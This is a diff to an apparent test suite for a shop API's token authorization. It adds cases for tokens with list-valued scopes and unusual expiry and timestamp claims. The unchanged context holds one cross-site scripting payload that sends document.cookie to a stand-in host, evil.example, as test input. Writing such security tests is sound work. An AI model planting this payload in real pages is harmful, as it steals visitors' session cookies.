@@ -62,6 +62,10 @@ export async function visits({ shop }: ForeignPolicy): Promise<(readonly [Ask, s
   const clerk = await shop.token("ES256", "profile", { claims: { role: "clerk" } });
   const stranger = await shop.token("RS256", "profile");
   const foreign = await shop.token("RS256", "stock:read", { claims: { aud: "other" } });
+  const listed = await shop.token("RS256", "", { claims: { scope: ["stock:list", "stock:read"] } });
+  const lasting = await shop.token("RS256", "stock:read", {
+    claims: { exp: 253_402_300_799, nbf: 1.5, iat: 1e9 + 0.25 },
+  });
   const attack = JSON.stringify({ note: "<script>fetch('//evil.example/?c='+document.cookie)</script>" });
   return [
     [{ path: "/alive" }, 200, "ok"],
@@ -72,6 +76,8 @@ export async function visits({ shop }: ForeignPolicy): Promise<(readonly [Ask, s
     [{ path: "/shelves/7", token: reader }, 200, "ok"],
     [{ path: "/shelves/7", headers: { authorization: `BEARER ${reader}` } }, 200, "ok"],
     [{ path: "/shelves/7", token: clerk }, 200, "ok"],
+    [{ path: "/shelves/7", token: listed }, 200, "ok"],
+    [{ path: "/shelves/7", token: lasting }, 200, "ok"],
     [{ path: "/shelves/7", robot: true }, 200, "ok"],
     [{ path: "/shelves/7/8", token: reader }, 403, "forbidden"],
     [{ path: "/nowhere" }, 403, "forbidden"],
